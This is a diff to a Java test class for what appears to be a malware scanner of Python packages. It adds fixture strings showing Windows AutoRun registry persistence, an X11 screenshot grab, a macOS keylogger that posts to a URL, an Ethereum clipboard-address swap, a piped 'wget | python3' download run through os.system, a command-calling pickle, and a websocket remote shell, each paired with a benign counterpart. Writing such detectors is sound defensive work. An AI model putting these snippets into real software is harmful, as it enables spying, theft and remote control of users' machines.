@@ -475,6 +475,11 @@ class ContentRuleTest {
 
     assertThat(levelIn(wmi, "wmi-event-subscription")).isEqualTo(RiskLevel.HIGH);
     assertThat(levelIn(udev, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    String autoRun =
+        "import winreg\nk = winreg.CreateKey(winreg.HKEY_CURRENT_USER,"
+            + " r'Software\\Microsoft\\Command Processor')\n"
+            + "winreg.SetValueEx(k, 'AutoRun', 0, winreg.REG_SZ, CMD)\n";
+    assertThat(levelIn(autoRun, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
     // asking udev about a device changes nothing
     assertThat(check(wheelWith("pkg/dev.py", query))).isEmpty();
   }
@@ -560,6 +565,10 @@ class ContentRuleTest {
 
     assertThat(levelIn(wx, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
     assertThat(levelIn(gdi, "screenshot")).isEqualTo(RiskLevel.MEDIUM);
+    String x11 =
+        "from Xlib import X, display\nroot = display.Display().screen().root\n"
+            + "raw = root.get_image(0, 0, W, H, X.ZPixmap, 0xFFFFFFFF)\n";
+    assertThat(levelIn(x11, "screenshot")).isEqualTo(RiskLevel.MEDIUM);
     // measuring text on the screen's context copies nothing
     assertThat(check(wheelWith("pkg/ui.py", measure))).isEmpty();
   }
@@ -571,7 +580,13 @@ class ContentRuleTest {
             + "ctypes.windll.user32.GetKeyboardState(ctypes.byref(state))\n"
             + "urllib.request.urlopen(URL, data=bytes(state))\n";
 
+    String monitor =
+        "import urllib.request\nfrom AppKit import NSEvent, NSKeyDownMask\n"
+            + "NSEvent.addGlobalMonitorForEventsMatchingMask_handler_(NSKeyDownMask, on_key)\n"
+            + "urllib.request.urlopen(urllib.request.Request(URL, data=BODY))\n";
+
     assertThat(levelIn(poll, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(monitor, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
   }
 
   @Test
@@ -581,7 +596,12 @@ class ContentRuleTest {
             + "LTC = re.compile(r'^(ltc1|[LM3])[a-zA-HJ-NP-Z0-9]{26,40}$')\n"
             + "if LTC.match(jc.paste_text()):\n    jc.copy_text(OURS)\n";
 
+    String pyclip =
+        "import re, pyclip\nETH = re.compile(rb'^0x[0-9a-fA-F]{40}$')\n"
+            + "if ETH.match(pyclip.paste()):\n    pyclip.copy(OURS)\n";
+
     assertThat(levelIn(swap, "clipboard-hijack")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(pyclip, "clipboard-hijack")).isEqualTo(RiskLevel.CRITICAL);
   }
 
   @Test
@@ -599,6 +619,43 @@ class ContentRuleTest {
     assertThat(levelIn(lambdas, "indirect-call-runs-download")).isEqualTo(RiskLevel.CRITICAL);
     // the helper every framework has, with no command in the file, is not a finding
     assertThat(check(wheelWith("pkg/utils.py", importString))).isEmpty();
+  }
+
+  @Test
+  void aDownloadPipedIntoPythonIsRunAsIfPipedIntoAShell() {
+    String python = "import os\nos.system('wget -qO- https://a.example/p.py | python3 -')\n";
+    String documented =
+        "def hint():\n    return 'Install it with: curl -sSL https://a.example/i.py | python3 -'\n";
+
+    assertThat(levelIn(python, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    // an installation hint shown to the user runs nothing
+    assertThat(check(wheelWith("pkg/hints.py", documented))).isEmpty();
+  }
+
+  @Test
+  void aPickleWrittenIntoTheCodeThatCallsACommandIsAPayload() {
+    String pickled =
+        "import pickle\nSTATE = b\"cos\\nsystem\\n(S'id'\\ntR.\"\npickle.loads(STATE)\n";
+    String data = "import pickle\nSTATE = b\"(dp0\\nS'k'\\np1\\nI1\\ns.\"\n";
+
+    assertThat(levelIn(pickled, "pickle-calls-command")).isEqualTo(RiskLevel.HIGH);
+    // a pickle of plain data calls nothing
+    assertThat(check(wheelWith("pkg/state.py", data))).isEmpty();
+  }
+
+  @Test
+  void aNetworkCallbackRunningItsMessageIsARemoteShell() {
+    String socketApp =
+        "import subprocess, websocket\n"
+            + "def on_msg(ws, message):\n    ws.send(subprocess.getoutput(message))\n"
+            + "websocket.WebSocketApp(URL, on_message=on_msg).run_forever()\n";
+    String logged =
+        "import logging, websocket\n"
+            + "def on_msg(ws, message):\n    logging.info('got %s', message)\n"
+            + "websocket.WebSocketApp(URL, on_message=on_msg).run_forever()\n";
+
+    assertThat(levelIn(socketApp, "network-callback-runs")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/live.py", logged))).isEmpty();
   }
 
   @Nested
